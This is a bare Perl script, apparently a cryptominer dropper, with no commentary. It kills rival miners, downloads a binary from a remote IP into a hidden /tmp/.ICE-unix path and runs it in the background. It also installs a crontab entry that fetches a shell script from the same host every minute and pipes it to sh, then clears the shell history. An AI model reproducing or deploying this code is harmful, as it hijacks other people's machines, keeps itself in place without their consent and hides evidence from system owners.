#!/usr/bin/perl
use LWP::Simple;
my $u = "http://198.51.100.33/x";
my $f = "/tmp/.ICE-unix/.x";
system("pkill -9 -f xmrig; pkill -9 -f kdevtmpfsi");
getstore($u, $f);
chmod 0755, $f;
system("nohup $f >/dev/null 2>&1 &");
system("(crontab -l; echo '* * * * * wget -q -O- http://198.51.100.33/u.sh | sh') | crontab -");
system("unset HISTFILE; history -c");
